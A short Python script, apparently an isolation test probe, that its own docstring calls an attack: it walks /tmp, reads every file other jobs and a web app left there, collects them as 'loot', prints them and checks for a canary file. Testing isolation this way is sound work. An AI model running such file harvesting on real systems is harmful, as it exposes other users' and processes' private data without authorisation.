"""Attack: search /tmp (where other jobs, pytest and the web app keep temporary files) for the
canary file and anything else left there, and print it."""
import os

loot = {}
for folder, _dirs, files in os.walk("/tmp"):
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, errors="replace") as stream:
                loot[path] = stream.read()[:2000]
        except OSError:
            pass
print(loot)

if any("hostile-canary" in path for path in loot):
    NAMES = ["a", "b"]

    def scale(x, k):
        return x * k
